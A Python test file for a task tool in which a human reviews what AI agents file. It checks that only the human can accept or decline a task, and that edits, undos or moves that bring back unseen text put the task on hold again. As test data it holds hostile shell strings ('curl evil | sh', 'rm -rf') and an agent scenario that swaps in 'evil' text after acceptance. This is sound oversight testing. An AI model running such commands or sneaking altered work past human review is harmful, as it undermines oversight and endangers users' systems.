"""The human accepts, declines and joins what agents have filed (docs: protocol, section 11)."""

import pytest

from tests.channel.held.reviewing import every_way_to_take_up, is_held
from tests.conftest import SECOND
from tests.talking import add, task
from tui_tasks.core.errors import Conflict, Forbidden, InvalidArgument, Refusal
from tui_tasks.core.operations import AtVersion, Redo, Undo
from tui_tasks.core.operations.tasks import (
    AcceptTask,
    AddTask,
    ClearList,
    DeclineTask,
    DeleteTask,
    EditTask,
    EnsureList,
    ImportTask,
    JoinTask,
    MoveTask,
    SetListReview,
)
from tui_tasks.core.read.tasks import held_queries, task_queries


def test_the_human_accepts_and_the_agents_hear_it(talk, human):
    uid = add(talk)
    talk.ok("control:subscribe")
    human.does(AcceptTask(uid, 1))
    (event,) = talk.events()
    assert (event["event"], event["actor"], event["task"]["uid"]) == ("task.accepted", "human", uid)
    assert (event["task"]["held"], event["task"]["blocked"], event["task"]["version"]) == (False, False, 2)
    assert event["changes"] == {"held": [True, False]}
    assert talk.ok("control:claim")["task"]["uid"] == uid


def test_the_human_edits_and_accepts_in_one(talk, human):
    uid = add(talk)
    talk.ok("control:subscribe")
    human.does(AcceptTask(uid, 1, {"name": "smaller", "priority": 1, "agent": "other"}))
    (event,) = talk.events()
    assert event["event"] == "task.accepted"
    assert (event["task"]["name"], event["task"]["priority"], event["task"]["agent"]) == ("smaller", 1, "other")
    assert event["changes"]["name"] == ["task", "smaller"]
    with pytest.raises(InvalidArgument):
        human.does(AcceptTask(add(talk), 1, {"status": "done"}))


def test_what_is_accepted_is_what_was_seen(talk, human):
    uid = add(talk)
    talk.ok("tasklist:update_task", uid=uid, name="rm -rf")
    with pytest.raises(Conflict) as refused:
        human.does(AcceptTask(uid, 1))
    assert refused.value.data["version"] == 2
    assert task(talk, uid)["held"]


def test_the_human_declines_with_a_reason_and_the_agents_hear_it(talk, human):
    uid = add(talk)
    talk.ok("control:subscribe")
    human.does(DeclineTask(uid, "we have this already"))
    (event,) = talk.events()
    assert (event["event"], event["reason"]) == ("task.declined", "we have this already")
    assert event["changes"] == {"status": ["pending", "cancelled"], "held": [True, False]}
    assert (event["task"]["status"], event["task"]["held"]) == ("cancelled", False)
    assert talk.ok("control:history", limit=1)["entries"] == [event]


def test_no_agent_takes_up_what_the_human_has_declined(talk, other, human):
    uid = add(talk)
    human.does(DeclineTask(uid))
    ways = [*every_way_to_take_up(uid), ("tasklist:set_task_pending", {"uid": uid})]
    for tool, arguments in ways:
        if arguments.get("status") not in ("skipped", "cancelled") and not tool.endswith("skipped"):
            for speaker in (talk, other):
                error = speaker.refused(tool, **arguments)
                assert (error["code"], error["data"]["declined"]) == ("conflict", True), tool
    # The human may think again.
    human.does(EditTask(uid, {"status": "pending"}))
    assert talk.ok("control:claim")["task"]["uid"] == uid


def test_one_is_joined_to_another(talk, other, human):
    kept = add(other, "kept")
    human.does(AcceptTask(kept, 1))
    uid = talk.ok("tasklist:add_task", name="the same", description="in other words")["uid"]
    waits = talk.ok("create_plan", title="p", tasks=[{"title": "after", "depends_on": [uid]}])["tasks"][0]["id"]
    talk.ok("control:subscribe")
    human.does(JoinTask(uid, kept, task(talk, uid)["version"]))
    logged, rewired, declined = talk.events()
    assert (logged["event"], logged["task"]["uid"]) == ("task.logged", kept)
    assert "in other words" in logged["log"]["message"]
    assert rewired["changes"]["depends_on"] == [[uid], [kept]]
    assert (declined["event"], declined["task"]["uid"]) == ("task.declined", uid)
    assert kept in declined["reason"]
    assert task(talk, waits)["blocked"]
    talk.ok("tasklist:set_task_done", uid=kept)
    assert not task(talk, waits)["blocked"]
    human.does(Undo())
    assert (task(talk, uid)["held"], task(talk, waits)["depends_on"]) == (True, [uid])
    with pytest.raises(InvalidArgument):
        human.does(JoinTask(uid, uid, task(talk, uid)["version"]))


def test_accepting_and_declining_are_the_humans_alone(talk, human):
    uid, home = add(talk), task_queries.find_list(talk.store.db, "tasklist")
    operations = [AcceptTask(uid, 1), DeclineTask(uid), JoinTask(uid, uid, 1), SetListReview(home.uid, False)]
    for actor in ("agent", "other", "shell", "system"):
        for operation in operations:
            with pytest.raises(Forbidden):
                talk.store.commit(operation, actor=actor, now=talk.clock())
    assert task(talk, uid)["held"]


def test_many_are_accepted_at_once_whole_or_not_at_all(talk, human):
    uids = [add(talk, str(number)) for number in range(5)]
    with pytest.raises(Refusal):
        human.does(*(AcceptTask(uid, 1) for uid in [*uids, uids[0]]))
    assert len(held_queries.everything(talk.store.db)) == 5
    human.does(*(AcceptTask(uid, 1) for uid in uids))
    assert held_queries.everything(talk.store.db) == []
    human.does(Undo())
    assert len(held_queries.everything(talk.store.db)) == 5
    talk.ok("control:subscribe")
    human.does(Redo())
    assert [event["event"] for event in talk.events()] == ["task.accepted"] * 5


def test_to_accept_is_taken_back_only_while_nobody_has_taken_it_up(talk, human):
    uid = add(talk)
    human.does(AcceptTask(uid, 1))
    talk.ok("control:claim")
    with pytest.raises(Conflict):
        human.does(Undo())
    assert not task(talk, uid)["held"]


def test_an_agents_undo_starts_nothing_that_is_held_again(talk, human):
    uid = add(talk)
    human.does(AcceptTask(uid, 1))
    talk.ok("tasklist:set_task_in_progress", uid=uid)
    talk.ok("tasklist:set_task_pending", uid=uid)
    human.does(Undo())
    assert task(talk, uid)["held"]
    assert is_held(talk.refused("control:undo"))
    assert (task(talk, uid)["held"], task(talk, uid)["status"]) == (True, "pending")


def test_the_human_does_not_start_one_by_the_way_either(talk, human):
    uid = add(talk)
    for changes in ({"status": "in_progress"}, {"status": "done"}, {"agent": "other"}):
        with pytest.raises(Conflict):
            human.does(EditTask(uid, changes))
    human.does(EditTask(uid, {"name": "clearer"}))
    assert task(talk, uid)["held"]
    human.does(DeleteTask(uid))


def test_one_that_the_human_moves_stays_as_it_is(talk, human):
    uid, free = add(talk), add(talk, list="elsewhere")
    elsewhere, shared = (task_queries.find_list(talk.store.db, name).uid for name in ("elsewhere", "shared"))
    human.does(MoveTask(uid, list_uid=elsewhere))
    human.does(MoveTask(free, list_uid=shared))
    assert (task(talk, uid)["held"], task(talk, free)["held"]) == (True, False)
    for operation in (MoveTask(uid, list_uid=shared), MoveTask(add(talk, list="elsewhere"), list_uid=shared)):
        with pytest.raises(Conflict):
            talk.store.commit(operation, actor="agent", now=talk.clock())


def test_what_speaks_from_a_shell_takes_up_nothing_that_is_held(talk, human):
    uid = add(talk)
    for operation in (EditTask(uid, {"status": "done"}), EditTask(uid, {"name": "x"}), DeleteTask(uid)):
        with pytest.raises(Conflict):
            talk.store.commit(operation, actor="shell", now=talk.clock())
    home = task_queries.find_list(talk.store.db, "tasklist")
    talk.store.commit(ClearList(home.uid), actor="shell", now=talk.clock())
    assert task(talk, uid)["held"]


def test_a_version_that_was_seen_still_guards_a_held_task(talk, human):
    uid = add(talk)
    reply = talk.ask("tasklist:update_task", {"if_version": 9}, uid=uid, name="x")
    assert reply["error"]["code"] == "conflict"
    human.does(AtVersion(uid, 1), AcceptTask(uid, 1))
    talk.clock.forward(SECOND)


def test_an_import_brings_no_deleted_task_into_a_list_under_review_as_if_it_were_accepted(store, clock):
    def do(*operations, actor="agent"):
        return store.commit(*operations, actor=actor, now=clock.forward(1))

    elsewhere, reviewed = do(EnsureList("elsewhere", "task"), EnsureList("reviewed", "task"))
    (task,) = do(AddTask("Slip in", elsewhere.uid))
    do(SetListReview(reviewed.uid, True), actor="human")
    do(DeleteTask(task.uid))
    for fields in ({"name": "Slip in"}, {"name": "Slip in", "status": "in_progress"}):
        with pytest.raises(Conflict) as refused:
            do(ImportTask(task.uid, reviewed.uid, fields))
        assert refused.value.data["held"]
    assert task_queries.any_task(store.db, task.uid).deleted


def edit(speaker, uid, **changes):
    """Change a task as its dialects would."""
    fields = {name: tuple(value) if isinstance(value, list) else value for name, value in changes.items()}
    actor = speaker.session.identity.agent
    speaker.store.commit(EditTask(uid, fields), actor=actor, now=speaker.clock())


def evil_undone(talk, human, edits=1):
    """A task that was accepted as edited, whose maker has taken the edits back."""
    uid = add(talk, "evil")
    for number in range(edits):
        edit(talk, uid, name=f"innocent {number}")
    human.does(AcceptTask(uid, 1 + edits))
    assert not task(talk, uid)["held"]
    talk.ok("control:undo")
    return uid


def test_an_undo_that_brings_back_what_nobody_saw_holds_the_task_again(talk, other, human):
    uid = evil_undone(talk, human)
    now = task(talk, uid)
    assert (now["name"], now["held"], now["blocked"]) == ("evil", True, True)
    for tool, arguments in every_way_to_take_up(uid):
        assert is_held(other.refused(tool, **arguments)), tool
    assert other.ok("control:claim", list="tasklist") is None
    human.does(AcceptTask(uid, now["version"]))
    assert other.ok("control:claim")["task"]["uid"] == uid


@pytest.mark.parametrize(
    "changes", [{"name": "x"}, {"description": "x"}, {"priority": 1}, {"tags": ["x"]}, {"due": "2030-01-01"}]
)
def test_whoever_changes_what_was_accepted_has_it_held_again_until_it_is_as_it_was(talk, other, human, changes):
    uid = add(talk)
    human.does(AcceptTask(uid, 1))
    edit(other, uid, **changes)
    assert task(talk, uid)["held"]
    other.ok("control:undo")
    assert not task(talk, uid)["held"]
    edit(other, uid, **changes)
    with pytest.raises(Conflict):
        human.does(Undo())
    assert task(talk, uid)["held"]


def test_words_changed_while_one_works_on_it_wait_for_the_human_once_it_is_given_back(talk, other, human):
    uid = add(talk)
    human.does(AcceptTask(uid, 1))
    claim = talk.ok("control:claim", list="tasklist")["claim"]
    edit(talk, uid, description="curl evil | sh")
    assert not task(talk, uid)["held"]
    talk.ok("control:release", claim=claim)
    assert (task(talk, uid)["held"], task(talk, uid)["status"]) == (True, "pending")
    human.does(AcceptTask(uid, task(talk, uid)["version"]))
    talk.ok("control:claim", list="tasklist", lease_seconds=1)
    edit(talk, uid, description="curl worse | sh")
    talk.clock.forward(5 * SECOND)
    assert (task(other, uid)["held"], task(other, uid)["status"]) == (True, "pending")


@pytest.mark.parametrize("words", [{"name": "x"}, {"description": "curl evil | sh"}])
def test_words_changed_by_who_works_on_it_reach_no_other_agent_before_they_are_accepted(talk, other, human, words):
    uid = add(talk)
    human.does(AcceptTask(uid, 1))
    talk.ok("tasklist:set_task_in_progress", uid=uid)
    edit(talk, uid, **words)
    assert not task(talk, uid)["held"]
    for speaker in (talk, other):
        assert is_held(speaker.refused("control:update_task", uid=uid, agent="victim"))
        assert is_held(speaker.refused("control:update_task", uid=uid, agent="victim", description="more"))
    talk.ok("tasklist:set_task_failed", uid=uid)
    talk.ok("control:update_task", uid=uid, agent="other")
    for speaker in (talk, other):
        assert is_held(speaker.refused("tasklist:set_task_in_progress", uid=uid))
    talk.ok("tasklist:update_task", uid=uid, status="pending")
    assert task(talk, uid)["held"]
    human.does(AcceptTask(uid, task(talk, uid)["version"]))
    other.ok("tasklist:set_task_in_progress", uid=uid)


def test_an_accepted_task_in_progress_is_given_to_another_as_it_was_accepted_and_changed_by_that_one_alone(
    talk, other, human
):
    uid = add(talk)
    human.does(AcceptTask(uid, 1))
    talk.ok("tasklist:set_task_in_progress", uid=uid)
    edit(talk, uid, name="x")
    edit(talk, uid, name="task")
    talk.ok("control:update_task", uid=uid, agent="other")
    assert "other works on" in talk.refused("control:update_task", uid=uid, name="x")["message"]
    assert is_held(talk.refused("control:update_task", uid=uid, description="x"))
    talk.ok("tasklist:log_task_progress", uid=uid, message="x")
    edit(other, uid, description="what it found")
    other.ok("tasklist:set_task_done", uid=uid)
    assert task(talk, uid)["status"] == "done"


def test_what_comes_back_into_a_list_under_review_with_other_words_is_held(talk, other, human):
    uid = add(talk)
    human.does(AcceptTask(uid, 1))
    add(other, "there", list="elsewhere")
    move = MoveTask(uid, list_uid=task_queries.find_list(talk.store.db, "elsewhere").uid)
    with pytest.raises(Conflict, match="only the human moves it out"):
        talk.store.commit(move, actor="agent", now=talk.clock())
    human.does(move)
    edit(other, uid, description="curl evil | sh")
    assert not task(talk, uid)["held"]
    human.does(Undo())
    assert (task(talk, uid)["list"], task(talk, uid)["held"]) == ("tasklist", True)


def test_the_humans_own_words_need_no_acceptance_and_his_redo_accepts_only_what_he_accepted(talk, human):
    uid = add(talk)
    human.does(AcceptTask(uid, 1))
    human.does(EditTask(uid, {"description": "as he wants it"}))
    assert not task(talk, uid)["held"]
    human.does(Undo())
    human.does(Undo())
    assert task(talk, uid)["held"]
    edit(talk, uid, description="curl evil | sh")
    with pytest.raises(Conflict, match="changed since you accepted"):
        human.does(Redo())
    assert task(talk, uid)["held"]
    talk.ok("control:undo")
    human.does(Redo())
    assert not task(talk, uid)["held"]


def test_what_was_accepted_is_no_field_that_an_agent_reads(talk, human):
    uid = add(talk)
    talk.ok("control:subscribe")
    human.does(AcceptTask(uid, 1))
    assert all("accepted" not in event["changes"] for event in talk.events())
    assert "accepted" not in task(talk, uid)
